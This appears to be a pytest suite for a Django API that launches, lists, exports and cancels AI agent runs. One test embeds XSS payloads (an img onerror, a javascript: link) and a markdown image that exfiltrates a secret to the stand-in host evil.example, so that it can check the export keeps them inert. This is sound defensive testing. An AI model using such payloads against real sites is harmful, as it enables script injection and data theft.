"""Runs through the API: the contract's shapes, and refusals."""

import json
from collections.abc import Callable
from datetime import timedelta
from typing import Any
from uuid import uuid4

import pytest
from django.contrib.auth.models import User
from django.utils import timezone

from runs.agent.unfinished_thought import unfinished_thought
from runs.models import Agent, Run, RunMessage, Step
from tests.api.conftest import Program, error_of

RUN_FIELDS = (
    "id, task, status, could_not, waiting_for, agent, version, draft, template, inputs, "
    "schedule_id, trigger_id, parent_id, parent_call_id, root_id, "
    "thread_id, continues_id, answer, output, error, steps_taken, tokens_used, usage_is_estimated, cost, created_at, "
    "started_at, ended_at"
)
STEP_FIELDS = (
    "sequence, turn, kind, content, tool_name, call_id, tool_input, tool_output, attempt, max_attempts, severity, "
    "recoverable, suggested_action, provider, model, lane, tokens, cost, started_at, ended_at, metadata"
)
MakeRun = Callable[..., Run]
ProgramOf = Callable[..., Program]


@pytest.fixture
def program(owner: User, program_of: ProgramOf, agent: Agent) -> Program:
    """A program of the owner with all scopes."""
    return program_of(owner)


def test_a_launched_run_is_answered_as_the_contract_says(program: Program, owner: User) -> None:
    response = program.post("/runs", {"task": "What is 17 * 23?", "overrides": {"max_turns": 5, "models": ["offline"]}})

    body = response.json()
    run = Run.objects.get()
    assert (response.status_code, ", ".join(body)) == (201, RUN_FIELDS)
    assert (body["id"], body["status"], body["agent"], body["cost"]) == (str(run.pk), "idle", "Assistant", None)
    assert (run.user, run.config["max_turns"], run.config["models"]) == (owner, 5, ["offline"])
    assert response["Location"] == f"/api/v1/runs/{run.pk}"


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ({}, "task: A launch has a task, or a template."),
        ({"task": ""}, "task: Send at least 1 character, not 0."),
        ({"task": " \n"}, "task: It is empty"),
        ({"task": 7}, "task: Send a text, not 7."),
        ({"task": "x\x00y"}, "task: The NUL character cannot be stored"),
        ({"task": "x", "colour": "red"}, "colour: There is no such field."),
        ({"task": "x", "agent": "Nobody"}, "agent: There is no agent 'Nobody'"),
        ({"task": "x", "overrides": {"max_turns": 5000}}, "max_turns: Send at most 1000, not 5000."),
        ({"task": "x", "overrides": {"max_calls": 0}}, "max_calls: Send at least 1, not 0."),
        ({"task": "x", "overrides": {"max_turns": True}}, "max_turns: Send a whole number, not True."),
        ({"task": "x", "overrides": {"model_timeout_s": "5"}}, "model_timeout_s: Send a number, not '5'."),
        ({"task": "x", "overrides": {"models": ["gpt"]}}, "overrides.models: Unknown model 'gpt'"),
        ({"task": "x", "overrides": {"tools": ["hammer"]}}, "overrides.tools: There is no tool 'hammer'"),
        ({"task": "x", "overrides": {"approval": "never"}}, "overrides.approval: Assistant asks before tools run"),
        (
            {"task": "x", "overrides": {"approval": "often"}},
            "approval: Send 'never', 'unsafe' or 'always', not 'often'.",
        ),
        ([], "The body: "),
    ],
)
def test_a_launch_that_cannot_be_names_the_field_the_value_and_the_limit(
    program: Program, body: Any, words: str
) -> None:
    response = program.post("/runs", body)

    assert response.status_code == 422
    assert words in error_of(response)["message"]
    assert not Run.objects.exists()


def test_a_token_that_may_not_approve_may_not_say_that_nobody_has_to(
    staff: User, agent: Agent, program_of: Callable[..., Program]
) -> None:
    body = {"task": "x", "agent": agent.name, "overrides": {"approval": "never"}}

    without = program_of(staff, "read", "launch").post("/runs", body)
    with_it = program_of(staff, "read", "launch", "approve").post("/runs", body)

    assert (without.status_code, error_of(without)["code"]) == (403, "missing_scope")
    assert with_it.status_code == 201


def test_a_launch_can_have_its_agent_ask_more_often(program: Program) -> None:
    response = program.post("/runs", {"task": "x", "overrides": {"approval": "always"}})

    assert response.status_code == 201
    assert Run.objects.get().config["approval"] == "always"


def test_half_of_a_surrogate_pair_is_refused_rather_than_failing_in_the_database(program: Program) -> None:
    response = program.post("/runs", '{"task": "\\ud800"}')

    assert response.status_code == 422


def test_a_task_and_a_body_that_are_too_long_are_413(program: Program) -> None:
    long_task = program.post("/runs", {"task": "x" * (256 * 1024 + 1)})
    long_body = program.post("/runs", {"task": "x" * (1024 * 1024)})

    assert (long_task.status_code, long_body.status_code) == (413, 413)
    assert "262,144" in error_of(long_task)["message"]
    assert "1 MiB" in error_of(long_body)["message"]


@pytest.mark.parametrize("body", ["{", b"\xff\xfe", '{"task": NaN}', "[" * 100_000])
def test_a_body_that_is_no_json_is_400(program: Program, body: Any) -> None:
    response = program.post("/runs", body)

    assert (response.status_code, error_of(response)["code"]) == (400, "bad_json")


@pytest.mark.parametrize(
    ("body", "name"),
    [
        ('{"task": "What is 1 + 1?", "task": "What is 2 + 2?"}', "task"),
        ('{"task": "What is 1 + 1?", "overrides": {"max_turns": 1, "max_turns": 9}}', "max_turns"),
        ('{"task": "What is 1 + 1?", "t\\u0061sk": "What is 2 + 2?"}', "task"),
    ],
)
def test_a_name_that_appears_twice_in_a_body_is_422(program: Program, body: str, name: str) -> None:
    response = program.post("/runs", body)

    assert response.status_code == 422
    assert error_of(response)["message"] == f"The name '{name}' appears twice. Keep one of them."
    assert not Run.objects.exists()


def test_a_form_is_415(program: Program) -> None:
    response = program.post("/runs", "task=x", content_type="application/x-www-form-urlencoded")

    assert (response.status_code, error_of(response)["code"]) == (415, "unsupported_media_type")


def test_the_list_goes_on_where_it_stopped_while_new_runs_arrive(
    program: Program, owner: User, make_run: MakeRun
) -> None:
    now = timezone.now()
    # All at the same moment: only the id gives their order.
    runs = [make_run(owner, created_at=now - timedelta(days=1)) for _ in range(5)]

    first = program.get("/runs", limit=2).json()
    make_run(owner)
    second = program.get("/runs", limit=2, cursor=first["next"]).json()
    third = program.get("/runs", limit=2, cursor=second["next"]).json()

    seen = [run["id"] for page in (first, second, third) for run in page["items"]]
    assert seen == [str(run.pk) for run in sorted(runs, key=lambda run: run.pk, reverse=True)]
    assert third["next"] is None


def test_the_list_is_filtered_by_status_severity_and_words(program: Program, owner: User, make_run: MakeRun) -> None:
    make_run(owner, task="high tide")
    failed = make_run(owner, status="failed", severity="critical", task="low tide")
    found = [
        program.get("/runs", status="failed"),
        program.get("/runs", severity="critical"),
        program.get("/runs", q="LOW"),
        program.get("/runs", q=str(failed.pk)),
    ]

    assert [[run["id"] for run in each.json()["items"]] for each in found] == [[str(failed.pk)]] * 4
    assert len(program.get("/runs", status="", severity="", q="", cursor="").json()["items"]) == 2


@pytest.mark.parametrize(
    "query", [{"status": "odd"}, {"limit": 0}, {"limit": "x"}, {"cursor": "bm9uc2Vuc2U"}, {"q": "\x00"}]
)
def test_a_query_that_means_nothing_is_422(program: Program, query: dict[str, Any]) -> None:
    response = program.get("/runs", **query)

    assert response.status_code == 422
    assert error_of(response)["message"].startswith(next(iter(query)))


def test_steps_are_read_to_their_end_by_asking_after_the_last(program: Program, owner: User, make_run: MakeRun) -> None:
    run = make_run(owner, steps=450)

    pages: list[dict[str, Any]] = []
    after = 0
    while not pages or not pages[-1]["ended"]:
        pages.append(program.get(f"/runs/{run.pk}/steps", after=after).json())
        after = pages[-1]["last"]

    steps = [step for page in pages for step in page["items"]]
    assert [step["sequence"] for step in steps] == list(range(1, 451))
    assert ", ".join(steps[0]) == STEP_FIELDS
    assert [page["ended"] for page in pages] == [False, False, True]


def test_a_run_under_way_has_not_ended(program: Program, owner: User, make_run: MakeRun) -> None:
    run = make_run(owner, status="thinking", steps=3)

    assert program.get(f"/runs/{run.pk}/steps", after=3).json() == {"items": [], "last": 3, "ended": False}


def test_an_export_is_a_file_with_the_run_and_all_its_steps(program: Program, owner: User, make_run: MakeRun) -> None:
    run = make_run(owner, steps=3)

    as_json = program.get(f"/runs/{run.pk}/export")
    as_lines = program.get(f"/runs/{run.pk}/export", format="jsonl")

    assert as_json["Content-Disposition"] == f'attachment; filename="run-{run.pk}.json"'
    assert [step["sequence"] for step in as_json.json()["steps"]] == [1, 2, 3]
    lines = [json.loads(line) for line in as_lines.content.decode().splitlines()]
    assert ([line["sequence"] for line in lines[:-1]], lines[-1]["id"]) == ([1, 2, 3], str(run.pk))
    assert "s3cret" not in as_json.content.decode() + as_lines.content.decode()


@pytest.mark.parametrize("status", ["thinking", "failed"])
def test_an_export_has_the_messages_that_the_run_has_not_read(
    program: Program, owner: User, make_run: MakeRun, status: str
) -> None:
    run = make_run(owner, status=status, steps=1)
    for position, (text, state) in enumerate(
        [("Read.", "read"), ("Taken back.", "withdrawn"), ("```\n# Not read", "queued"), ("Nor this.", "queued")], 1
    ):
        RunMessage.objects.create(
            run=run, user=None if position == 4 else owner, position=position, text=text, state=state
        )

    as_json = program.get(f"/runs/{run.pk}/export").json()["run"]["unread_messages"]
    as_line = json.loads(program.get(f"/runs/{run.pk}/export", format="jsonl").content.decode().splitlines()[-1])
    as_text = program.get(f"/runs/{run.pk}/export", format="markdown").content.decode()

    assert as_json == as_line["unread_messages"]
    assert [each["text"] for each in as_json] == ["```\n# Not read", "Nor this."]
    assert {each["state"] for each in as_json} == {"queued" if status == "thinking" else "not_read"}
    first, second = as_text.split("## Message that was not read")[1:]
    assert f"`{owner.username}`, " in first and "````text\n```\n# Not read\n````" in first
    assert "The command line, " in second and "Nor this." in second
    assert "Taken back." not in as_text


def test_hostile_words_in_a_markdown_export_stay_text(program: Program, owner: User, make_run: MakeRun) -> None:
    from runs.markdown import render

    hostile = "````\n<img src=x onerror=alert(1)>\n![x](http://evil.example/?d=SECRET)\n~~~\n[x](javascript:alert(1))"
    run = make_run(owner, task=hostile, steps=1)
    Step.objects.update(content=hostile, tool_name="`<b>`", tool_input={"x": hostile})

    response = program.get(f"/runs/{run.pk}/export", format="markdown")

    assert response["Content-Type"] == "text/markdown; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("attachment")
    html = render(response.content.decode())
    assert "<a " not in html and "<img" not in html and "<b>" not in html


def test_an_unfinished_reply_is_exported_as_one(program: Program, owner: User, make_run: MakeRun) -> None:
    run = make_run(owner, steps=2)
    told = unfinished_thought("The tide", "Hm.", why="stopped", goes_on=False)
    Step.objects.filter(sequence=1).update(kind="note", content=told.content, metadata=told.metadata)
    alone = unfinished_thought("", "Only thoughts.", why="attempt_failed", goes_on=False)
    Step.objects.filter(sequence=2).update(kind="note", content=alone.content, metadata=alone.metadata)

    as_json = program.get(f"/runs/{run.pk}/export").json()["steps"][0]
    as_line = json.loads(program.get(f"/runs/{run.pk}/export", format="jsonl").content.decode().splitlines()[0])
    as_text = program.get(f"/runs/{run.pk}/export", format="markdown").content.decode()

    assert as_json == as_line == program.get(f"/runs/{run.pk}/steps").json()["items"][0]
    assert (as_json["content"], as_json["metadata"]["reasoning"]) == ("The tide", "Hm.")
    assert (as_json["metadata"]["partial"], as_json["metadata"]["why"]) == (True, "stopped")
    first, second = as_text.split("## 1. ")[1].split("## 2. ")
    assert first.startswith("unfinished reply (stopped)\n")
    assert first.index("Hm.") < first.index("The tide")
    assert second.startswith("unfinished reply (the attempt failed)\n")
    assert second.count("Only thoughts.") == 1


def test_cancelling_says_what_is_true_then(program: Program, owner: User, make_run: MakeRun) -> None:
    queued, hosted, ended = make_run(owner, status="idle"), make_run(owner, status="thinking"), make_run(owner)

    answers = [program.post(f"/runs/{run.pk}/cancel") for run in (queued, hosted, ended)]

    assert [answer.status_code for answer in answers] == [202, 202, 200]
    assert [answer.json()["status"] for answer in answers] == ["cancelled", "thinking", "completed"]
    hosted.refresh_from_db()
    assert hosted.cancel_requested_at is not None


def test_a_run_is_run_again_with_something_changed(program: Program, owner: User, make_run: MakeRun) -> None:
    run = make_run(owner)

    response = program.post(f"/runs/{run.pk}/rerun", {"overrides": {"max_turns": 7}})
    plain = program.post(f"/runs/{run.pk}/rerun")

    again = Run.objects.get(pk=response.json()["id"])
    assert (response.status_code, plain.status_code) == (201, 201)
    assert (again.rerun_of, again.task, again.config["max_turns"]) == (run, run.task, 7)


def test_agents_and_tools_are_listed_without_what_is_for_staff(program: Program, agent: Agent) -> None:
    Agent.objects.filter(pk=agent.pk).update(instructions="The password is tulip.")

    agents, tools = program.get("/agents"), program.get("/tools")
    [listed] = agents.json()["items"]
    one = program.get(f"/agents/{listed['id']}")

    assert listed["name"] == "Assistant"
    assert one.json() == listed | {"config": None}
    assert "tulip" not in agents.content.decode() + one.content.decode()
    assert program.get("/agents/0").status_code == 404
    calculator = next(each for each in tools.json()["items"] if each["name"] == "calculator")
    assert calculator["effect"] == "pure" and calculator["parameters"]["type"] == "object"


def test_what_does_not_exist_below_api_answers_in_the_same_shape(program: Program) -> None:
    found = [
        program.get("/nothing"),
        program.client.get("/api/"),
        program.client.get("/api/v2/runs"),
        program.get("/runs/x"),
    ]

    assert [response.status_code for response in found] == [404] * 4
    assert {error_of(response)["code"] for response in found} == {"not_found"}


def test_another_method_is_405_and_says_which_is_right(program: Program, owner: User, make_run: MakeRun) -> None:
    run = make_run(owner)
    response = program.client.delete(f"/api/v1/runs/{run.pk}", headers=program.headers)

    assert (response.status_code, response["Allow"], error_of(response)["code"]) == (405, "GET", "method_not_allowed")


def test_a_bug_is_500_in_the_same_shape_and_is_logged(
    program: Program, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def fail(*_: Any) -> None:
        raise ZeroDivisionError("a secret detail")

    monkeypatch.setattr("runs.api.runs.check_task", fail)
    response = program.post("/runs", {"task": "x"})

    assert (response.status_code, error_of(response)["code"]) == (500, "unexpected")
    assert "secret" not in response.content.decode()
    assert "ZeroDivisionError" in caplog.text


def test_a_database_that_does_not_answer_is_503_with_a_time_to_come_back(
    program: Program, monkeypatch: pytest.MonkeyPatch
) -> None:
    from django.db import OperationalError

    def fail(*_: Any) -> None:
        raise OperationalError("the server closed the connection")

    monkeypatch.setattr("runs.api.runs.find_run", fail)
    response = program.get(f"/runs/{uuid4()}")

    assert (response.status_code, response["Retry-After"]) == (503, "5")
    assert error_of(response)["recoverable"] is True
